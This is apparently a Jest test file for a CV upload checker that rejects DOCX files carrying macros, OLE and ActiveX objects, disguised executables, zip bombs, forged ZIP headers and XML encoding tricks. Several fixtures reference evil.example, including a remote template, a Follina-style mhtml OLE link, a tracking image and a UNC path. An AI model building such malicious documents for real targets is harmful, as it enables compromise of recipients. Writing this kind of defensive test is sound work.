/** @jest-environment node */
import { randomBytes } from 'node:crypto';
import { inspectCvArchive, MAX_CV_ENTRIES } from './cvArchive';
import { checkCv } from './cvCheck';
import {
  craftedCvs,
  docxBomb,
  macroDocx,
  sampleDocx,
  windowsExecutable,
} from './testing/cvFixtures';
import { writeZip } from './testing/zipWriter';
import { readZipDirectory } from './zipDirectory';

const ole = Buffer.concat([
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
  Buffer.alloc(256, 7),
]);
const relationships = (type: string, target: string, external = true) =>
  '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  `<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>` +
  '</Relationships>';

const problemOf = (bytes: Buffer) => {
  const verdict = inspectCvArchive(bytes);
  return verdict.ok ? 'accepted' : verdict.problem;
};

describe('a CV that is a Word file (DOCX)', () => {
  it('is accepted as it comes from Word: text, a picture, printer settings, links to the web', async () => {
    const docx = sampleDocx(
      { name: 'word/media/image1.png', data: Buffer.from('\x89PNG\r\n\x1a\n....', 'latin1') },
      { name: 'word/printerSettings/printerSettings1.bin', data: Buffer.alloc(400, 0x20) },
      {
        name: 'word/_rels/document.xml.rels',
        data: relationships('hyperlink', 'https://www.linkedin.com/in/ana'),
      },
    );
    expect(problemOf(docx)).toBe('accepted');
    expect(await checkCv({ name: 'Ana Horvat.docx', size: docx.length }, docx)).toEqual({
      ok: true,
      kind: 'docx',
    });
  });

  describe('refused when it carries code', () => {
    it.each([
      ['a VBA project and a program beside it', macroDocx()],
      [
        'VBA data (Word 2016+)',
        sampleDocx({ name: 'word/vbaData.xml', data: '<wne:vbaSuppData/>' }),
      ],
      ['an Excel 4 macro sheet', sampleDocx({ name: 'xl/macrosheets/sheet1.xml', data: '<xm/>' })],
      ['an OLE object', sampleDocx({ name: 'word/embeddings/oleObject1.bin', data: ole })],
      ['an ActiveX control', sampleDocx({ name: 'word/activeX/activeX1.xml', data: '<ax/>' })],
      ['ODF Basic macros', sampleDocx({ name: 'Basic/Standard/Module1.xml', data: '<script/>' })],
      ['a program by its name', sampleDocx({ name: 'docs/setup.EXE', data: 'anything' })],
      ['a script by its name', sampleDocx({ name: 'word/run.ps1', data: 'Start-Process' })],
      [
        'a macro-enabled workbook inside',
        sampleDocx({ name: 'word/embeddings/a.xlsm', data: 'x' }),
      ],
      [
        'a program disguised as a picture (stored)',
        sampleDocx({ name: 'word/media/image2.png', data: windowsExecutable(), store: true }),
      ],
      [
        'a program disguised as a picture (deflated)',
        sampleDocx({ name: 'word/media/image2.png', data: windowsExecutable() }),
      ],
      [
        'an OLE storage under an innocent name',
        sampleDocx({ name: 'word/theme/theme2.xml', data: ole }),
      ],
      [
        'a macro-enabled document renamed to .docx',
        sampleDocx({
          name: '[Content_Types].xml',
          data: '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        }),
      ],
      [
        'a template fetched from elsewhere when it opens',
        sampleDocx({
          name: 'word/_rels/settings.xml.rels',
          data: relationships('attachedTemplate', 'http://evil.example/t.dotm'),
        }),
      ],
      [
        'a remote OLE object (Follina)',
        sampleDocx({
          name: 'word/_rels/document.xml.rels',
          data: relationships(
            'oleObject',
            'mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html',
          ),
        }),
      ],
      [
        'a workbook inside that carries a macro sheet',
        sampleDocx({
          name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx',
          data: writeZip([{ name: 'xl/macrosheets/sheet1.xml', data: '<xm/>' }]),
        }),
      ],
    ])('%s', async (_, bytes) => {
      expect(problemOf(bytes)).toBe('activeContent');
      expect(await checkCv({ name: 'cv.docx', size: bytes.length }, bytes)).toEqual({
        ok: false,
        problem: 'activeContent',
      });
    });
  });

  describe('refused when it is a bomb or its headers lie', () => {
    it('a file of about 50 kB that unpacks to 50 MB', () => {
      const bomb = docxBomb();
      expect(bomb.length).toBeLessThan(100 * 1024);
      expect(problemOf(bomb)).toBe('unsafeArchive');
    });

    it('parts that together unpack beyond 20 MB, each of them plausible', () => {
      // Photographs do not compress: stored as they are, 7 MB each.
      const parts = [1, 2, 3].map((n) => ({
        name: `word/media/image${n}.jpeg`,
        data: randomBytes(7 * 1024 * 1024),
        store: true,
      }));
      expect(problemOf(sampleDocx(...parts))).toBe('unsafeArchive');
    });

    it('a part whose stream gives more than its header declares', () => {
      const liar = sampleDocx({
        name: 'word/media/image1.png',
        data: Buffer.alloc(5 * 1024 * 1024),
        declaredSize: 1000,
      });
      expect(problemOf(liar)).toBe('unsafeArchive');
    });

    it('a part whose stream gives less than its header declares', () => {
      const liar = sampleDocx({ name: 'word/styles.xml', data: '<w:styles/>', declaredSize: 4096 });
      expect(problemOf(liar)).toBe('unsafeArchive');
    });

    it('more parts than a CV has', () => {
      const parts = Array.from({ length: MAX_CV_ENTRIES }, (_, n) => ({
        name: `word/media/p${n}.xml`,
        data: '<p/>',
      }));
      expect(problemOf(sampleDocx(...parts))).toBe('unsafeArchive');
    });

    it('a local header that names another part than the directory does', () => {
      const docx = sampleDocx();
      const forged = Buffer.from(docx);
      // The first local header's name starts at byte 30: "[Content_Types].xml" becomes "(Content...".
      forged[30] = '('.charCodeAt(0);
      expect(readZipDirectory(forged, { maxEntries: 10 })).toEqual({
        ok: false,
        fault: 'inconsistent',
      });
      expect(problemOf(forged)).toBe('unsafeArchive');
    });

    it('a local header whose sizes differ from the directory', () => {
      const forged = Buffer.from(sampleDocx());
      forged.writeUInt32LE(forged.readUInt32LE(22) + 1, 22);
      expect(problemOf(forged)).toBe('unsafeArchive');
    });

    it('an encrypted part, which nobody can check', () => {
      const docx = Buffer.from(sampleDocx());
      const directory = docx.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
      docx.writeUInt16LE(docx.readUInt16LE(directory + 8) | 1, directory + 8);
      expect(readZipDirectory(docx, { maxEntries: 10 })).toEqual({ ok: false, fault: 'encrypted' });
    });

    it('ZIP64 records, which no CV of 10 MB needs', () => {
      const docx = sampleDocx();
      const locator = Buffer.alloc(20);
      locator.writeUInt32LE(0x07064b50, 0);
      const withZip64 = Buffer.concat([
        docx.subarray(0, docx.length - 22),
        locator,
        docx.subarray(-22),
      ]);
      expect(readZipDirectory(withZip64, { maxEntries: 10 })).toEqual({
        ok: false,
        fault: 'zip64',
      });
      expect(problemOf(withZip64)).toBe('unsafeArchive');
    });

    it('two parts of the same name, which Word and this check could read differently', () => {
      const twice = writeZip([
        { name: '[Content_Types].xml', data: '<Types/>' },
        { name: 'word/document.xml', data: '<w:document>Ana Horvat, CV</w:document>' },
        { name: 'word/document.xml', data: '<w:document/>' },
      ]);
      expect(problemOf(twice)).toBe('unsafeArchive');
    });

    it('a ZIP cut short, without its directory, is not a Word file at all', async () => {
      const cut = sampleDocx().subarray(0, 200);
      expect(problemOf(cut)).toBe('notZip');
      expect(await checkCv({ name: 'cv.docx', size: cut.length }, cut)).toEqual({
        ok: false,
        problem: 'badType',
      });
    });
  });
});

/*
 * Issue 38: these were matched as text and mailed to HR. Word parses each part as XML (decoded by its
 * byte-order mark and declaration, namespaces resolved, character references expanded), so the
 * check does too.
 */
describe('a Word file read as Word reads its XML', () => {
  const relationshipsNamespace = 'http://schemas.openxmlformats.org/package/2006/relationships';
  const rels = (relationship: string, declaration = '<?xml version="1.0" encoding="UTF-8"?>') =>
    `${declaration}<Relationships xmlns="${relationshipsNamespace}">${relationship}</Relationships>`;
  const template =
    'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
  const withPart = (name: string, data: string | Buffer) => sampleDocx({ name, data });

  it.each([
    ['a .rels part in UTF-16 with an external template', craftedCvs.utf16Relationships()],
    ['TargetMode="&#69;xternal"', craftedCvs.characterReferenceTargetMode()],
    ['a prefixed <pr:Relationship> with an external template', craftedCvs.prefixedRelationship()],
    ['an RTF with an OLE object imported through altChunk', craftedCvs.altChunkRtf()],
    [
      'a .rels part in UTF-16 big-endian without a byte-order mark',
      withPart(
        'word/_rels/settings.xml.rels',
        Buffer.from(
          Buffer.from(
            rels(
              `<Relationship Id="r" Type="${template}" Target="http://evil.example/t" TargetMode="External"/>`,
              '<?xml version="1.0" encoding="UTF-16"?>',
            ),
            'utf16le',
          ).swap16(),
        ),
      ),
    ],
    [
      'an external relationship of any type but a hyperlink (a picture fetched on opening)',
      withPart(
        'word/_rels/document.xml.rels',
        rels(
          '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="https://evil.example/track.png" TargetMode="External"/>',
        ),
      ),
    ],
    [
      'a network path as an internal target',
      withPart(
        'word/_rels/settings.xml.rels',
        rels(`<Relationship Id="r" Type="${template}" Target="\\\\evil.example\\t.dotm"/>`),
      ),
    ],
    [
      'TargetMode spelled with spaces and in other case',
      withPart(
        'word/_rels/settings.xml.rels',
        rels(`<Relationship Id="r" Type="${template}" Target="t.dotm" TargetMode=" external "/>`),
      ),
    ],
    [
      'an altChunk relationship alone',
      withPart(
        'word/_rels/document.xml.rels',
        rels(
          '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="part.dat"/>',
        ),
      ),
    ],
    ['an RTF part by its name', withPart('word/afchunk.rtf', '{\\rtf1 Ana}')],
    ['an MHT part by its name', withPart('word/afchunk.mht', 'MIME-Version: 1.0')],
    ['an HTML part by its name', withPart('word/afchunk.HTML', '<html></html>')],
    [
      'an imported content type',
      withPart(
        '[Content_Types].xml',
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="dat" ContentType="application/rtf"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
      ),
    ],
  ])('%s is refused', async (_, bytes) => {
    expect(problemOf(bytes)).toBe('activeContent');
    expect(await checkCv({ name: 'cv.docx', size: bytes.length }, bytes)).toEqual({
      ok: false,
      problem: 'activeContent',
    });
  });

  it.each([
    [
      'a DTD, which OPC forbids (and which could expand entities)',
      withPart(
        'word/_rels/document.xml.rels',
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e "External">]>' +
          `<Relationships xmlns="${relationshipsNamespace}"><Relationship Id="r" Type="${template}" Target="t" TargetMode="&e;"/></Relationships>`,
      ),
    ],
    [
      'a declaration that contradicts the bytes (UTF-8 saying UTF-16)',
      withPart('word/_rels/document.xml.rels', rels('', '<?xml version="1.0" encoding="UTF-16"?>')),
    ],
    [
      'an encoding OPC does not allow',
      withPart(
        'word/_rels/document.xml.rels',
        rels('', '<?xml version="1.0" encoding="ISO-8859-1"?>'),
      ),
    ],
    [
      'UTF-32',
      withPart(
        'word/_rels/document.xml.rels',
        Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), Buffer.alloc(16)]),
      ),
    ],
    [
      'bytes that are not UTF-8',
      withPart('word/styles.xml', Buffer.from([0x3c, 0x61, 0xff, 0x2f, 0x3e])),
    ],
    [
      'XML that is not well formed',
      withPart('word/_rels/document.xml.rels', '<Relationships><Relationship'),
    ],
    ['a prefix bound to nothing', withPart('word/_rels/document.xml.rels', '<pr:Relationships/>')],
  ])('%s is refused as unreadable', (_, bytes) => {
    expect(problemOf(bytes)).toBe('unsafeArchive');
  });

  it('accepts what Word writes: hyperlinks out, internal parts, UTF-16 parts, prefixes', () => {
    const hyperlink =
      'http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink';
    const docx = sampleDocx(
      {
        name: 'word/_rels/document.xml.rels',
        data: Buffer.concat([
          Buffer.from([0xff, 0xfe]),
          Buffer.from(
            rels(
              `<Relationship Id="r1" Type="${hyperlink}" Target="https://www.linkedin.com/in/ana" TargetMode="External"/>` +
                '<Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>' +
                '<Relationship Id="r3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image1.png" TargetMode="Internal"/>',
              '<?xml version="1.0" encoding="UTF-16"?>',
            ),
            'utf16le',
          ),
        ]),
      },
      {
        name: 'word/styles.xml',
        data: '\ufeff<?xml version="1.0" encoding="utf-8"?><w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
      },
    );
    expect(problemOf(docx)).toBe('accepted');
  });
});
